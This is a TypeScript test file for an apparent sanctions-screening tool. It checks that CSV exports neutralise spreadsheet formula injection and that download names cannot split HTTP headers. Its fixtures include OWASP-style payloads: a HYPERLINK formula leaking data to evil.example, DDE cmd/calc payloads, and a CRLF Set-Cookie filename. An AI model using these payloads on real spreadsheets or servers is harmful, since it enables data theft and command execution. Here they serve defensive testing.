/**
 * Issue 22, items 11 and 13: what the project exports stays inert and downloadable.
 * - Formula injection: customer ids and listed names (a list another agency shares) that begin
 *   with =, +, -, @, tab or CR come out of every CSV with a leading quote, so that a reviewer's
 *   spreadsheet shows them and never runs them; numbers stay numbers.
 * - A job named `客户.csv` (or with quotes and line breaks in its name) downloads with an
 *   RFC 6266 Content-Disposition instead of a 500 or a split header.
 */
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import type { FastifyInstance } from "fastify";
import { addUser, createApiKey } from "../../src/access/manage.ts";
import { spreadsheetSafe, spreadsheetSafeCsv } from "../../src/io/spreadsheet-safe.ts";
import { importList } from "../../src/lists/import.ts";
import { comparePairsFile } from "../../src/screening/compare.ts";
import { screenFile } from "../../src/screening/batch/screen.ts";
import { buildApp } from "../../src/server/app.ts";
import { attachment } from "../../src/server/content-disposition.ts";
import { openStore } from "../../src/store/open.ts";
import type { Store } from "../../src/store/store.ts";
import { backends } from "../helpers/stores.ts";

const dir = mkdtempSync(path.join(os.tmpdir(), "moneytrail-exports-"));

function file(name: string, content: string): string {
  const p = path.join(dir, name);
  writeFileSync(p, content);
  return p;
}

/** Cells an attacker plants: OWASP's examples and the issue's. */
const FORMULAS = [
  `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  "\tTAB=1+1",
  "\r=1+1",
  "＝1+1",
];

/** A list shared by another agency, its captions chosen to run in the screening agency's Excel. */
const HOSTILE_LIST = [
  { id: "evil-1", schema: "Person", properties: { name: ["=Kim Sokchol Trader"] } },
  { id: "evil-2", schema: "Person", properties: { name: ["@Park Hyonggol Broker"] } },
  { id: "evil-3", schema: "Person", properties: { name: ["-Ri Chol Man+cmd"] } },
]
  .map((e) => JSON.stringify(e))
  .join("\n");

/** A customer file whose ids are formulas (csv-stringify quotes them as a real file would). */
const HOSTILE_CUSTOMERS = stringify([
  ["id", "name", "schema"],
  [FORMULAS[0]!, "Kim Sokchol Trader", "Person"],
  [FORMULAS[1]!, "Park Hyonggol Broker", "Person"],
  [FORMULAS[2]!, "Ri Chol Man", "Person"],
  [FORMULAS[3]!, "Jane Doe", "Person"],
]);

/** Every cell of a CSV, and whether any could run as a formula. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: false }) as string[][];
  return rows.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/u.test(cell));
}

test("spreadsheetSafe quotes every formula start and leaves other text and numbers alone", () => {
  for (const formula of FORMULAS) assert.equal(spreadsheetSafe(formula), `'${formula}`);
  for (const text of ["Kim Sokchol Trader", "0.9500", "", "a=b", " =1", "'=1"])
    assert.equal(spreadsheetSafe(text), text);
  // A negative amount typed as a number is a value, not a formula; the same text is neutralised.
  const csv = stringify(
    [[-2, "-2+3", 0.95, "x"]],
    spreadsheetSafeCsv({ header: true, columns: ["amount", "text", "score", "=header"] }),
  );
  assert.equal(csv, "amount,text,score,'=header\n-2,'-2+3,0.95,x\n");
});

test("attachment() gives an ASCII fallback and the full name as RFC 8187 filename*", () => {
  assert.equal(
    attachment("客户-screened.csv"),
    `attachment; filename="__-screened.csv"; filename*=UTF-8''%E5%AE%A2%E6%88%B7-screened.csv`,
  );
  const hostile = attachment("a\"b\\c\r\nX-Evil: 1;(x)*'.csv");
  assert.doesNotMatch(hostile, /[\r\n]/);
  assert.equal(
    hostile,
    `attachment; filename="a_b_cX-Evil: 1;(x)*'.csv"; filename*=UTF-8''a%22b%5CcX-Evil%3A%201%3B%28x%29%2A%27.csv`,
  );
  // A lone surrogate cannot be UTF-8: it becomes U+FFFD instead of throwing a URIError.
  assert.match(attachment("x\ud800.csv"), /filename\*=UTF-8''x%EF%BF%BD\.csv$/);
});

test("CLI screen and compare write formulas inert", async () => {
  const store = await openStore(path.join(dir, "cli.db"));
  try {
    await importList(store, [file("hostile.ftm.json", HOSTILE_LIST)], {
      format: "ftm",
      dataset: "agency_b_watch",
      version: "1",
    });
    const output = path.join(dir, "screened.csv");
    await screenFile({
      input: file("customers.csv", HOSTILE_CUSTOMERS),
      output,
      store,
      db: path.join(dir, "cli.db"),
      match: { limit: 5, threshold: 0.7 },
      workers: 0,
      keep: false,
    });
    const csv = readFileSync(output, "utf8");
    assert.deepEqual(formulaCells(csv), []);
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    assert.equal(rows[0]!.input_id, `'${FORMULAS[0]}`);
    assert.equal(rows[0]!.caption, "'=Kim Sokchol Trader");
    assert.ok(rows.some((r) => r.caption === "'@Park Hyonggol Broker"));
    assert.ok(rows.some((r) => r.input_id === `'${FORMULAS[3]}`));
    // Scores stay plain numbers.
    assert.match(rows[0]!.score!, /^\d\.\d{4}$/);

    const pairs = path.join(dir, "pairs-out.csv");
    await comparePairsFile(
      file(
        "pairs.csv",
        stringify([
          ["schema", "name1", "name2", "note"],
          ["Person", "=Kim Sokchol", "Kim Sokchol", "+cmd|' /C calc'!A0"],
        ]),
      ),
      pairs,
    );
    const compared = readFileSync(pairs, "utf8");
    assert.deepEqual(formulaCells(compared), []);
    assert.match(compared, /'\+cmd/);
  } finally {
    await store.close();
  }
});

for (const backend of backends()) {
  describe(`server exports (${backend.name})`, () => {
    let store: Store;
    let app: FastifyInstance;
    const keys: Record<string, string> = {};

    const call = (who: string, url: string, body?: string) =>
      app.inject({
        method: body === undefined ? "GET" : "POST",
        url,
        headers: {
          authorization: `ApiKey ${keys[who]}`,
          ...(body === undefined ? {} : { "content-type": "text/csv" }),
        },
        ...(body === undefined ? {} : { payload: body }),
      });

    async function screenJob(name: string, body: string): Promise<string> {
      const started = await call("alice", `/screen?name=${encodeURIComponent(name)}`, body);
      assert.equal(started.statusCode, 202, started.body);
      const id = started.json<{ id: string }>().id;
      for (let i = 0; i < 400; i++) {
        const job = (await call("alice", `/jobs/${id}`)).json<{ status: string; error?: string }>();
        if (job.status === "done") return id;
        assert.notEqual(job.status, "failed", job.error);
        await new Promise((r) => setTimeout(r, 25));
      }
      throw new Error(`job ${id} did not finish`);
    }

    // Agency B shares a hostile list with agency A; alice of agency A screens against it.
    before(async () => {
      store = await openStore(await backend.freshLocation());
      await importList(store, [file(`hostile-${backend.name}.ftm.json`, HOSTILE_LIST)], {
        format: "ftm",
        dataset: "agency_b_watch",
        version: "1",
      });
      await store.access.setCollectionPublic("agency_b_watch", false);
      await store.access.grant("agency_b_watch", "agency:A", "read");
      await addUser(store.access, {
        username: "alice",
        role: "analyst",
        agency: "A",
        password: "a long password",
      });
      keys.alice = (await createApiKey(store.access, { username: "alice", name: "t" })).secret;
      app = await buildApp({ store, auth: "required" });
    });

    after(async () => {
      await app?.close();
      await store?.close();
    });

    test("results.csv neutralises formula ids and captions", async () => {
      const id = await screenJob("customers.csv", HOSTILE_CUSTOMERS);
      const response = await call("alice", `/screen/jobs/${id}/results.csv`);
      assert.equal(response.statusCode, 200, response.body);
      assert.deepEqual(formulaCells(response.body), []);
      const rows = parse(response.body, { columns: true }) as Array<Record<string, string>>;
      assert.deepEqual(
        rows.map((r) => r.input_id),
        FORMULAS.slice(0, 4).map((f) => `'${f}`),
      );
      assert.equal(rows[0]!.caption, "'=Kim Sokchol Trader");
      // Column names are the contract and stay as they are.
      assert.equal(
        response.body.split("\n")[0],
        "input_id,rank,score,match,entity_id,caption,schema,datasets,source_id,error",
      );
      // The JSON results keep the customer's id as given: only spreadsheets need the quote.
      const json = await call("alice", `/screen/jobs/${id}/results`);
      assert.equal(
        json.json<{ rows: Array<{ input: { id: string } }> }>().rows[0]!.input.id,
        FORMULAS[0],
      );
    });

    test("a job named 客户.csv downloads with filename* (was a 500)", async () => {
      const id = await screenJob("客户.csv", "id,name,schema\nc1,Kim Sokchol Trader,Person\n");
      const response = await call("alice", `/screen/jobs/${id}/results.csv`);
      assert.equal(response.statusCode, 200, response.body);
      assert.equal(
        response.headers["content-disposition"],
        `attachment; filename="__-screened.csv"; filename*=UTF-8''%E5%AE%A2%E6%88%B7-screened.csv`,
      );
    });

    test("quotes and line breaks in a job's name cannot split the header", async () => {
      const id = await screenJob(
        'x"\r\nSet-Cookie: a=b; .csv',
        "id,name,schema\nc1,Kim Sokchol Trader,Person\n",
      );
      const response = await call("alice", `/screen/jobs/${id}/results.csv`);
      assert.equal(response.statusCode, 200, response.body);
      assert.equal(response.headers["set-cookie"], undefined);
      const disposition = String(response.headers["content-disposition"]);
      assert.match(disposition, /^attachment; filename="x_Set-Cookie: a=b; -screened\.csv"; /);
      assert.match(disposition, /filename\*=UTF-8''x%22Set-Cookie%3A%20a%3Db%3B%20-screened\.csv$/);
    });
  });
}
